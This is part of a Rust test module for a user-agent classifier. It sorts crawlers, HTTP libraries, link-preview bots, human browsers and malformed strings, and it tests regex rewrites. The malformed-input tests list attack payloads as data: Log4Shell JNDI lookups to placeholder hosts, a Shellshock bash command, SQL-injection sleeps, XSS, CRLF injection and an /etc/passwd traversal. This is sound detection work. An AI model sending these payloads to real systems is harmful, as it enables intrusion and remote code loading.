        // describes itself in the model's place, is still a bot.
        let ua = Some(UserAgent);
        check(&[
            (
                "Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; Storebot-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.138 Mobile Safari/537.36",
                ua,
            ),
            (
                "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                ua,
            ),
            (
                "Mozilla/5.0 (Linux; Android 10; compatible; SomeBot/1.0; +http://example.com/bot)",
                ua,
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64; XBot Junior) AppleWebKit/537.36 Chrome/87.0 Safari/537.36",
                ua,
            ),
        ]);
    }

    #[test]
    fn tv_wap_and_chinese_mobile_browsers_are_human() {
        check(&[
            (
                "Opera/9.80 (Linux mips; U; HbbTV/1.1.1 (; Humax; iCord HD+; 1.0.0; 1.0.0; ); ce-html/1.0; en) Presto/2.10.250 Version/11.60",
                None,
            ),
            (
                "Opera/9.80 NETTV/4.5.0 Mozilla/5.0 (Linux armv7i; CE-HTML/1.0; U; en) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.75 Safari/537.36 Tbrowser/2.0 _TV_/V8-N563T01-LF1V156 (TCL,49S62,wireless)",
                None,
            ),
            (
                "Mozilla/5.0 (Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0.4147.140 Safari/537.36 OPR/46.0.2207.0 OMI/4.21.4.112.Catcher4.66 Model/Hisense-MT9602 VIDAA/5.0",
                None,
            ),
            (
                "SonyEricssonJ108i/R1x Browser/NetFront/3.5 Profile/MIDP-2.1 Configuration/CLDC-1.1 JavaPlatform/JP-8.5",
                None,
            ),
            (
                "HONGYU61M_11C_HW (MRE/3.1.00(64);MAUI/_LD2409_WINMAX_BD45_180108;BDATE/2018/01/08 18:11;LCD/240320;CHIP/MT6261;KEY/Normal;TOUCH/0;CAMERA/1;SENSOR/0;DEV/HONGYU61M_11C_HW;WAP Browser/MAUI ();GMOBI/001)",
                None,
            ),
            (
                "dv(iPh12,8);pr(UCBrowser/11.3.5.1203);ov(15_3_1);ss(375x667);bt(GJ);pm(0);bv(0);nm(0);im(0);nt(2);",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 7.0; BZK-L00 Build/XXXXX BZK-L00; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/56.0.2924.87 Mobile Safari/537.36 SogouMSE,SogouMobileBrowser/5.23.53",
                None,
            ),
        ]);
        // Sogou's and others' spiders keep a strong bot word, which overrules the markers.
        check(&[
            (
                "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
                Some(UserAgent),
            ),
            (
                "Opera/9.80 (Linux mips; U; HbbTV/1.1.1; ce-html/1.0; en) Presto/2.10 crawler",
                Some(UserAgent),
            ),
        ]);
    }

    #[test]
    fn in_app_browsers_are_human() {
        check(&[
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21E236 Instagram 326.0.3.30.91 (iPhone15,3; iOS 17_4; en_US; en; scale=3.00; 1290x2796; 581346246)",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36 Instagram 406.0.0.58.159 Android (35/15; 480dpi; 1080x2400; OPPO; CPH2557; OP573DL1; mt6833; en_MY; 822918295; IABMV/1) NV/1",
                None,
            ),
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.0;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5;FBRV/0]",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 13; SM-S918B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/122.0.6261.119 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/455.0.0.44.88;]",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook",
                None,
            ),
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 musical_ly_30.8.0 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/en Region/US isDarkMode/0 WKWebView/1 BytedanceWebview/d8a21c6",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 12; SM-A525F Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36 trill_2023204030 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/musical_ly app_version/32.4.3 ByteLocale/en ByteFullLocale/en Region/GB BytedanceWebview/d8a21c6",
                None,
            ),
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [LinkedInApp]/9.29.8960",
                None,
            ),
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Mobile/15E148 [Pinterest/iOS]",
                None,
            ),
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 16_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Snapchat/12.10.0.40 (like Safari/8614.2.9.0.10, panda)",
                None,
            ),
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/13.20.0",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 10; V1916A Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.62 XWEB/2693 MMWEBSDK/201201 Mobile Safari/537.36 MMWEBID/6055 MicroMessenger/8.0.1.1841(0x2800015D) Process/toolsmp WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 7.1.2; G011A Build/N2G48H; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/66.0.3359.158 Safari/537.36 Viber/11.9.5.8",
                None,
            ),
        ]);
    }

    #[test]
    fn lists_and_old_hand_list_flag_crawlers_and_libraries() {
        let ua = Some(UserAgent);
        check(&[
            (
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                ua,
            ),
            (
                "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
                ua,
            ),
            (
                "Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)",
                ua,
            ),
            (
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1)",
                ua,
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36",
                ua,
            ),
            (
                "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
                ua,
            ),
            ("curl/8.4.0", ua),
            ("Wget/1.21", ua),
            ("python-requests/2.31.0", ua),
            ("Python-urllib/3.11", ua),
            ("Python/3.11 aiohttp/3.9.1", ua),
            ("Go-http-client/1.1", ua),
            ("okhttp/4.12.0", ua),
            ("Java/17.0.2", ua),
            ("libwww-perl/6.72", ua),
            ("axios/1.6.2", ua),
            ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", ua),
            ("Scrapy/2.11.0 (+https://scrapy.org)", ua),
            ("ChatGPT-User/1.0", ua),
            ("kube-probe/1.29", ua),
            ("Mozilla/5.0 (compatible; TikTok-Bot/1.0)", ua),
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 13_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/7.0.12(0x17000c2f) NetType/4G Language/zh_CN wechatdevtools qcloudcdn-xinan",
                ua,
            ),
        ]);
    }

    #[test]
    fn typical_misses_of_the_old_hand_list_are_caught() {
        check(&[
            (
                "APIs-Google (+https://developers.google.com/webmasters/APIs-Google.html)",
                Some(UserAgent),
            ),
            (
                "Amazon-Route53-Health-Check-Service (ref b0eb04d5-cb5e-40e7-839b-558e52fc3f0d; report http://amzn.to/1vsZADi)",
                Some(UserAgent),
            ),
            (
                "ADmantX Platform Semantic Analyzer - ADmantX Inc. - www.admantx.com - support@admantx.com",
                Some(UserAgent),
            ),
            ("2ip.ru CMS Detector (https://2ip.ru/cms/)", Some(UserAgent)),
            ("Akregator/1.2.9; librss/remnants", Some(UserAgent)),
            ("${jndi:ldap://x/a}", Some(MalformedUserAgent)),
            ("123", Some(MalformedUserAgent)),
            ("0xAbyssalDoesntExist", Some(MalformedUserAgent)),
        ]);
    }

    #[test]
    fn link_preview_fetchers() {
        let lp = Some(LinkPreview);
        check(&[
            (
                "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
                lp,
            ),
            ("Facebot", lp),
            (
                "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
                lp,
            ),
            ("Slack-ImgProxy (+https://api.slack.com/robots)", lp),
            ("Twitterbot/1.0", lp),
            ("WhatsApp/2.23.20.0 A", lp),
            ("TelegramBot (like TwitterBot)", lp),
            (
                "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
                lp,
            ),
            (
                "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
                lp,
            ),
            (
                "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5",
                lp,
            ),
            ("Pinterest/0.2 (+https://www.pinterest.com/bot.html)", lp),
            (
                "Mozilla/5.0 (compatible; Pinterestbot/1.0; +http://www.pinterest.com/bot.html)",
                lp,
            ),
            (
                "Mozilla/5.0 (compatible; redditbot/1.0; +http://www.reddit.com/feedback)",
                lp,
            ),
            (
                "Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)",
                lp,
            ),
            ("Iframely/1.3.1 (+https://iframely.com/docs/about)", lp),
            (
                "Mozilla/5.0 (compatible; vkShare; +http://vk.com/dev/Share)",
                lp,
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/56.0.2924.87 Safari/537.36 Google (+https://developers.google.com/+/web/snippet/) Google-PageRenderer",
                lp,
            ),
            ("Viber", lp),
            (
                "Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots",
                lp,
            ),
            (
                "Mastodon/4.2.1 (http.rb/5.1.1; +https://mastodon.social/) Bot",
                lp,
            ),
            (
                "Mozilla/5.0 (compatible; Cardyb/1.1; +mailto:support@bsky.app)",
                lp,
            ),
            (
                "MetaInspector/5.7.0 (+https://github.com/jaimeiniesta/metainspector)",
                lp,
            ),
            (
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) BingPreview/1.0b",
                lp,
            ),
        ]);
    }

    #[test]
    fn malformed_user_agents() {
        let bad = Some(MalformedUserAgent);
        check(&[
            ("${jndi:ldap://203.0.113.9/a}", bad),
            (
                "Mozilla/5.0 (Windows NT 10.0) ${jndi:dns://x.example/a}",
                bad,
            ),
            ("Mozilla/5.0 ${${::-j}ndi:rmi://x/a}", bad),
            ("Mozilla/5.0\u{1}(Windows NT 10.0)", bad),
            ("Mozilla/5.0 (Windows NT 10.0)\r\nX-Injected: 1", bad),
            ("Mozilla/5.0 (Windows NT 10.0)\u{85}", bad),
            ("LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--", bad),
            ("Mozilla/5.0' AND SLEEP(5) AND '1'='1", bad),
            ("Mozilla/5.0 (X11) <script>alert(1)</script>", bad),
            ("Mozilliqa\"<?=print(9347655345-4954366);?>", bad),
            ("() { :; }; /bin/bash -c 'id'", bad),
            ("../../../../etc/passwd", bad),
            ("123", bad),
            ("0xAbyssalDoesntExist", bad),
            (
                "U2FsdGVkX1+uKxeH2946bMTDvtmFr0nWjvFRoPtc64LSh1Gg0qkbJUIhLpSw5h",
                bad,
            ),
        ]);
    }

    #[test]
    fn every_lookaround_is_rewritten() {
        let list: Vec<String> = serde_json::from_str(ISBOT_PATTERNS).unwrap();
        for p in list
            .iter()
            .filter(|p| p.contains("(?<") || p.contains("(?=") || p.contains("(?!"))
        {
            assert!(
                LOOKAROUNDS.iter().any(|l| l.original == p),
                "isbot pattern {p:?} uses look-around: add a hand-written rewrite to LOOKAROUNDS"
            );
        }
    }

    #[test]
    fn lookaround_rewrites_keep_their_meaning() {
        let matches = |original: &str, text: &str| {
            let l = LOOKAROUNDS.iter().find(|l| l.original == original).unwrap();
            Regex::new(&format!(
                "(?-u){}",
                Pattern::insensitive(&rewrite(l)).source()
            ))
            .unwrap()
            .is_match(text.as_bytes())
        };
        let cases = [
            (r"(?<! cu)bots?(?:\b|_)", "googlebot/2.1", true),
            (r"(?<! cu)bots?(?:\b|_)", "bot", true),
            (r"(?<! cu)bots?(?:\b|_)", "android 10; cubot_x30", false),
            (r"(?<! cu)bots?(?:\b|_)", "android 10;cubot x30", true),
            (r"(?<!cam)scan", "scanner", true),
            (r"(?<!cam)scan", "camscanner", false),
            (r"(?<!lib)http", "http.rb", true),
            (r"(?<!lib)http", "ps4 libhttp/1.000", false),
            (r"java(?!;)", "java/17", true),
            (r"java(?!;)", "java", true),
            (r"java(?!;)", "(java; u)", false),
            (r"(?:^|[^g])news(?!sapphire)", "newsblur", true),
            (r"(?:^|[^g])news(?!sapphire)", "newssapphir", true),
            (r"(?:^|[^g])news(?!sapphire)", "newssapphire", false),
            (r"(?:^|[^g])news(?!sapphire)", "gnews", false),
            (
                r"(?<! channel/|google/)google(?!(?:wv|app|/google| pixel))",
                "google-inspectiontool",
                true,
            ),
            (
                r"(?<! channel/|google/)google(?!(?:wv|app|/google| pixel))",
                "googlewv",
                false,
            ),
            (
                r"(?<! channel/|google/)google(?!(?:wv|app|/google| pixel))",
                "googleapp/14",
                false,
            ),
            (
                r"(?<! channel/|google/)google(?!(?:wv|app|/google| pixel))",
                "google/google",
                false,
            ),
            (
                r"(?<! channel/|google/)google(?!(?:wv|app|/google| pixel))",
                "; google pixel 8",
                false,
            ),
            (
                r"(?<! channel/|google/)google(?!(?:wv|app|/google| pixel))",
                "x channel/google",
                false,
            ),
            (
                r"(?<! channel/|google/)google(?!(?:wv|app|/google| pixel))",
                "xchannel/google",
                true,
            ),
        ];
        for (original, text, want) in cases {
            assert_eq!(matches(original, text), want, "{original} on {text:?}");
        }
    }

    #[test]
    fn replacements_and_exclusions_are_current() {
        let isbot: Vec<String> = serde_json::from_str(ISBOT_PATTERNS).unwrap();
        for (p, _, _) in REPLACED {
            assert!(
                isbot.iter().any(|q| q == p),
                "REPLACED {p:?} is no longer in isbot"
            );
        }
        for (p, _) in EXCLUDED {
            let present = CRAWLER_USER_AGENTS
                .lines()
                .any(|l| l.split('\t').next() == Some(p));
            assert!(
                present,
                "EXCLUDED {p:?} is no longer in crawler-user-agents"
            );
        }
    }

    #[test]
    fn every_pattern_compiles_alone() {
        let all = bot_patterns().into_iter().chain(link_preview_patterns());
        for p in all.chain(MALFORMED_PATTERNS.iter().map(|p| Pattern::insensitive(p))) {
            assert!(
                Regex::new(&format!("(?-u){}", p.source())).is_ok(),
                "{}",
                p.regex
            );
        }
    }
}
